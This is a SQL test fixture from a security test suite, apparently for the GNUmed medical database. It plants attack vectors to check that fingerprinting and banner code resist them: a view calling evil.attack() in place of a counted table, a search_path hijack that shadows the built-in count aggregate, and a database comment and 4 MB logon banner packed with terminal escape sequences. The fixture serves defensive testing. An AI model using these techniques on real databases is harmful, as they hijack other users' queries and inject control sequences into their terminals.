-- tests/security/plant-fingerprint.sql: run AS gm-dbo in the database only
-- the fingerprint and the banner look at (its schema hash changes).
-- Vector e): a table the fingerprint counts replaced by a view calling
-- evil.attack(); the database's search_path (ALTER DATABASE, which the
-- owner may) leading to a schema with a count(integer) that beats
-- pg_catalog's; a database comment and a 4 MB banner full of terminal
-- escape sequences.
\set ON_ERROR_STOP 1
ALTER TABLE dem.org_unit RENAME TO org_unit_real;
CREATE VIEW dem.org_unit AS SELECT * FROM dem.org_unit_real WHERE evil.attack('counted_view');
CREATE SCHEMA evilpath;
GRANT USAGE ON SCHEMA evilpath TO PUBLIC;
CREATE FUNCTION evilpath.count_sf(bigint, integer) RETURNS bigint LANGUAGE sql IMMUTABLE AS $$ SELECT $1 + 1 $$;
CREATE FUNCTION evilpath.count_ff(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.attack('search_path_count');
	RETURN $1;
END $$;
CREATE AGGREGATE evilpath.count(integer) (SFUNC = evilpath.count_sf, STYPE = bigint, FINALFUNC = evilpath.count_ff, INITCOND = '0');
SELECT pg_catalog.format('ALTER DATABASE %I SET search_path TO "$user", public, evilpath', pg_catalog.current_database()) \gexec
SELECT pg_catalog.format('COMMENT ON DATABASE %I IS %L', pg_catalog.current_database(),
			 E'\x1b]0;gmdb-owned\x07\x1b[2J\x1b[1;31mGNUmed\x1b[0m\r') \gexec
DELETE FROM cfg.db_logon_banner;
INSERT INTO cfg.db_logon_banner (message)
VALUES (E'\x1b]0;gmdb-owned\x07\x1b[2J\x1b[31mPraxis\x1b[0m\r\n' || pg_catalog.repeat(E'Praxis M\u00fcller 0123456789 \\ \'"\n', 150000));
